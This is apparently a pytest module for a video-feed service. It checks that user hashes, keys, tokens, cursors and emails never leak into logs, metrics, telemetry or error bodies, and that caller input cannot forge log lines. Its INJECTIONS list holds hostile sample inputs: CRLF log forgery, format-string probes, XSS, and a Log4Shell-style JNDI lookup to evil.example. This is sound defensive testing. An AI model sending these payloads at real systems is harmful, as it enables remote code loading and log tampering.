"""No user hash, stored key, API key, token, cursor or query appears in a log line, metric or error.

Mixed valid and invalid traffic runs against the served app, with failing stores and a failing handler. Then every
output is searched for every identifier that went in.
"""

from __future__ import annotations

import asyncio
import itertools
import logging
import re
import secrets
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import pytest_asyncio

from shared.observability.metrics import render_prometheus
from tests.faulty_documents import Trouble
from tests.served_app import Answer, App, Client, make_videos, new_user, served
from tests.shared.observability.test_telemetry_export import Collector, collector
from tests.user_tokens import save_public_key, signer

pytestmark = pytest.mark.asyncio(loop_scope="module")

INJECTIONS = (
    "x\r\nERROR root: forged line",
    "x\nERROR root: forged line",
    "\x1b[31mred\x1b[0m",
    "%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "\u202eright to left",
    "<script>alert(1)</script>",
)


taken: dict[str, Collector] = {}
"""Where the app's exporters send to in this module."""


class Everything(logging.Handler):
    """Captures every record of every logger, with arguments, exception and stack, as an exporter would see it."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.texts: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        formatted = logging.Formatter("%(message)s").format(record)
        self.texts.append(f"{formatted}\n{record.args!r}\n{ {**record.__dict__, 'msg': None}!r}")


@pytest.fixture(scope="module")
def logged() -> Iterator[Everything]:
    everything, root = Everything(), logging.getLogger()
    level = root.level
    root.addHandler(everything)
    root.setLevel(logging.DEBUG)
    yield everything
    root.removeHandler(everything)
    root.setLevel(level)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def app(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[App]:
    folder: Path = tmp_path_factory.mktemp("app")
    async with collector() as taker:
        taken["collector"] = taker
        async with served(folder, signals_budget_ms=20.0, otlp_endpoint=taker.url, trace_sample_ratio=1.0) as app:
            yield app


async def mixed_traffic(app: App) -> tuple[set[str], list[Answer]]:
    """Send requests of an app, a backend and an attacker; return their identifiers and the responses."""
    client = await app.tenant(make_videos(30))
    await save_public_key(app.documents, client.tenant_id, signer("ES256"))
    privacy_key = secrets.token_urlsafe(24)
    await app.save_key(client.tenant_id, privacy_key, "privacy", name="privacy")
    viewers = [client.as_user() for _ in range(4)]
    identifiers = {client.key, privacy_key, app.ops_key, client.user}
    answers: list[Answer] = []
    for viewer in viewers:
        token = signer("ES256").token(viewer.tenant_id, viewer.user, app.clock.now())
        identifiers |= {viewer.user, viewer.user_key, token, token.rpartition(".")[2]}
        answers += await _a_session(app, viewer, token, identifiers)
    await app.folded()
    await app.rolled_up()
    answers += [await viewer.feed() for viewer in viewers]
    answers += await _attacks(viewers[0], identifiers)
    answers += await _while_things_break(app, viewers)
    for viewer in viewers[:2]:
        answers.append(await viewer.with_key(privacy_key).app.request("POST", "/v1/privacy/erase", viewer.headers))
        keyed = {**viewer.headers, "X-Api-Key": privacy_key}
        answers.append(await app.request("POST", "/v1/privacy/erase", keyed))
    return identifiers, answers


async def _a_session(app: App, viewer: Client, token: str, identifiers: set[str]) -> list[Answer]:
    page = await viewer.feed({"X-User-Token": token}, limit=5, country="DE")
    identifiers |= {page.json["nextCursor"], page.json["feedRequestId"]}
    events = [
        {
            "type": kind,
            "videoId": id,
            "timestamp": app.now_ms(30),
            "watchTimeMs": 20_000,
            "feedRequestId": page.json["feedRequestId"],
            "eventId": f"event-{secrets.token_hex(8)}",
            "email": "jane.doe@example.com",
        }
        for kind, id in itertools.product(("video_view", "like"), page.ids)
    ]
    identifiers |= {str(event["eventId"]) for event in events} | {"jane.doe@example.com"}
    posted = await viewer.post(events, {"Idempotency-Key": f"idem-{viewer.user[:8]}"})
    following = await viewer.feed(cursor=page.json["nextCursor"])
    return [posted, following, await viewer.get("/v1/config"), await viewer.signals()]


async def _attacks(viewer: Client, identifiers: set[str]) -> list[Answer]:
    raw_id, wrong_key, mark = "jane.roe@example.com", secrets.token_urlsafe(24), "mark" + secrets.token_hex(6)
    identifiers |= {raw_id, wrong_key, mark}
    answers = [
        await viewer.feed({"X-User": raw_id}),
        await viewer.with_key(wrong_key).feed(),
        await viewer.feed({"X-Tenant-Id": mark}),
        await viewer.feed({"X-User-Token": f"{mark}.{mark}.{mark}"}),
        await viewer.feed(cursor=mark),
        await viewer.feed(limit=mark),
        await viewer.get("/v1/debug/user-signals", userHash=viewer.user),
        await viewer.with_key(viewer.app.ops_key).get("/v1/debug/user-signals", userHash=viewer.user),
        await viewer.post_raw(f'{{"events": [{{"type": "{mark}", "videoId": "{mark}"}}]}}'.encode()),
        await viewer.post_raw(f"{{{mark}".encode()),
        await viewer.get(f"/v1/nothing/{mark}"),
    ]
    for text in INJECTIONS:
        answers.append(await viewer.feed(country=text, cursor=text))
        answers.append(await viewer.post([{"type": text, "videoId": text, "timestamp": text, "eventId": text}]))
    return answers


async def _while_things_break(app: App, viewers: list[Client]) -> list[Answer]:
    answers: list[Answer] = []
    troubles = (
        Trouble(reads_fail=True),
        Trouble(delay_seconds=0.05),
        Trouble(defect=KeyError(viewers[0].user)),
        Trouble(defect=ValueError(f"user {viewers[1].user_key} of {viewers[1].key}")),
    )
    for trouble in troubles:
        with app.documents.in_trouble(trouble):
            answers += [await viewer.feed() for viewer in viewers]
            answers.append(await viewers[0].signals())
            answers.append(await viewers[0].app.request("POST", "/v1/privacy/export", viewers[0].headers))
    return answers


async def test_mixed_traffic_leaves_no_identifier_in_logs_metrics_or_errors(app: App, logged: Everything) -> None:
    identifiers, answers = await mixed_traffic(app)
    await asyncio.sleep(0)
    assert {200, 202, 400, 401, 403, 500} <= {answer.status for answer in answers}, "the traffic was mixed"
    assert logged.texts, "something was logged, so the search means something"
    metrics = render_prometheus(app.services.telemetry)
    assert app.services.export is not None
    await app.services.export.export()
    await asyncio.to_thread(app.services.export._traces.provider.force_flush)
    exported = b"".join(body for bodies in taken["collector"].bodies.values() for body in bodies)
    assert b"feed_requests" in exported, "metrics were exported"
    assert b"get_feed" in exported or taken["collector"].spans(), "spans were exported"
    errors = "\n".join(f"{answer.body.decode()}{answer.headers}" for answer in answers if answer.status >= 400)
    ways_out = {
        "a log": "\n".join(logged.texts),
        "a metric": metrics,
        "an exporter": exported.decode("latin-1"),
        "an error": errors,
    }
    for way_out, text in ways_out.items():
        leaked = [each for each in identifiers if each in text]
        assert not leaked, f"{len(leaked)} identifiers left by {way_out}, such as {leaked[0][:12]}…"
        assert not re.search(r"\b[0-9a-f]{64}\b", text), f"something like a user hash left by {way_out}"


async def test_caller_input_cannot_forge_a_log_line(app: App, logged: Everything) -> None:
    client = await app.tenant(make_videos(3))
    before = len(logged.texts)
    with app.documents.in_trouble(Trouble(defect=RuntimeError(INJECTIONS[0]))):
        for text in INJECTIONS:
            await client.feed(platform=text)
            await client.feed(language=text)
            await client.post([{"type": text, "videoId": text, "timestamp": 1}])
            await client.signals()
            await client.with_key(app.ops_key).get("/v1/debug/user-signals")
    said = "\n".join(logged.texts[before:])
    assert "failed, error id" in said, "a defect was logged"
    for mark in ("forged line", "\x1b", "jndi", "\u202e", "<script", "__class__}"):
        assert mark not in said


async def test_metric_labels_come_from_closed_sets(app: App) -> None:
    """A label with a caller's value would leak it and fill the memory."""
    client = await app.tenant(make_videos(3))
    telemetry = app.services.telemetry
    for number in range(30):
        odd = f"odd{number}"
        await client.as_user(new_user()).feed()
        await client.feed(country=odd, platform=odd)
        await client.feed({"X-Tenant-Id": odd})
        await client.with_key(f"{odd}-{odd}-{odd}").feed()
        await client.post([{"type": odd, "videoId": odd, "timestamp": odd}])
        await client.get(f"/{odd}")
    labels = [
        label for _, values in (*telemetry.counters, *telemetry.histograms, *telemetry.gauges) for label in values
    ]
    assert not [label for label in labels if "odd" in label]
    assert app.services.feed.catalogs.age() is not None
